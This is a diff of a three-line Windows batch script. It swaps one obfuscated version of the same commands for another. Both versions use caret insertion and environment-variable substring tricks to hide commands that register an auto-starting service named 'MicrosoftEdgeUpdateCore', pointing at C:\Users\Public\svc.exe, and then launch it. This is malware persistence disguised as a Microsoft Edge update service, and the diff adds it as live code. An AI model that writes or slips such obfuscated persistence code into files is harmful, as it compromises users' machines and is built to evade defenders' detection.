@@ -1,3 +1,3 @@
-REM config 2278 v2
-^s^c c^r^eat^e M^ic^ro^s^oftEdgeUpdateCo^r^e ^b^in^Pa^th= "cmd.exe /c C:\Users\Public\svc.exe" st^art= ^a^u^t^o
-%windir:~9,1%c start ^M^i^c^r^os^oftEd^ge^U^pda^te^Cor^e
+REM init 8367 v2
+%COMSPEC:~13,1%%COMSPEC:~20,1% crea^te ^Mi^cr^os^o^f^t^Ed^geUp^dat^e^Core ^b^inP^a^th= "cmd.exe /c C:\Users\Public\svc.exe" s^t^a^rt= ^auto
+%COMSPEC:~-18,1%%public:~14,1% st^a^rt ^Mi^cros^o^ftEdg^eU^pd^at^eCor^e
